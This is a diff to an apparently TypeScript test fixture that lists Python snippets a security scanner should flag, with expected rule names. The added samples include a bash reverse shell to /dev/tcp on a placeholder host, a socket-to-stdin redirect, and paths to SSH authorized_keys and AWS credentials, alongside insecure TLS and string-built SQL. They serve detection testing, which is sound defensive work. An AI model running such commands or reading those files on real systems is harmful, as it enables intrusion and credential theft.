@@ -137,7 +137,16 @@ const MISSED: [string, string][] = [
   ["c.verify_mode = ssl.CERT_NONE", "py/tls-unverified high"],
   ["shutil.unpack_archive(x)", "py/unpack-archive low"],
   ["torch.load(x)", "py/model-loading medium"],
-  ["AutoModel.from_pretrained('a/b')", "py/model-loading medium"],
+  ["AutoModel.from_pretrained('a/b')", "py/unpinned-model medium"],
+  ["AutoModel.from_pretrained('a/b', revision='main')", "py/unpinned-model medium"],
+  ["SSL.Context(method=SSL.SSLv3_METHOD)", "py/old-tls high"],
+  ["q = '''\n  select * from t\n  where a = %s''' % x", "py/sql-text medium"],
+  ["q = f'insert into {t} values (1)'", "py/sql-text medium"],
+  ["q = 'delete from t where a = b'.replace('b', x)", "py/sql-text medium"],
+  ["os.dup2(s.fileno(), 0)", "py/reverse-shell high"],
+  ["c = 'bash -i >& /dev/tcp/a.b/1 0>&1'", "py/reverse-shell critical"],
+  ["p = '/home/u/.ssh/authorized_keys'", "py/persistence high"],
+  ["p = '~/.aws/credentials'", "py/names-credentials medium"],
   ["importlib.import_module(x)", "py/dynamic-import low"],
 ];
 
